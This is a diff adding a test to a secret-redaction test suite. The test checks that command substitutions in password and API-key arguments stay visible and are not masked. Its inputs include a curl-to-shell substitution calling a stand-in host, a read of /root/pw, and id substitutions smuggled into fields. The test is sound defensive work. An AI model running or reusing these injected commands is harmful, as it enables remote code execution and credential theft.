@@ -182,6 +182,13 @@ describe('a mask never hides the commands around a secret (issue 13 red team)', 
     }
   });
 
+  it('a value that is a substitution is not masked: the command inside it stays visible', () => {
+    for (const line of ['pveum user add bob@pve --password $(curl -s http://192.0.2.1/x|sh)', 'sshpass -p "$(cat /root/pw)" ssh h', 'tool --api-key `id` x', 'mysql --password=$(id) db']) {
+      const out = redactText(line);
+      expect(out, line).toBe(line);
+    }
+  });
+
   it('a header scheme stays and the credential after it goes, also in free text', () => {
     const out = redactText('upstream said: Authorization: Basic dXNlcjpwYXNzd29yZA== then 401');
     expect(out).not.toContain('dXNlcjpwYXNzd29yZA');
